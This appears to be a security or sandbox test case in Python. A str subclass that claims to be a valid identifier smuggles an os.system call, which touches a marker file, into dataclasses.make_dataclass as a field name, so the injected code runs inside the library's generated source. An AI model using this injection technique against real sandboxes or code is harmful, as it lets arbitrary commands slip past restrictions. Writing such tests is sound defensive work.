# tries: a name that says it is an identifier
# class: library
# bare: gate
import dataclasses
class Name(str):
    def isidentifier(self): return True
A = dataclasses.make_dataclass("A", [(Name("x or __import__('os').system('touch %s')" % MARKER), int)], init=False, namespace={"x": 0})
print(A())
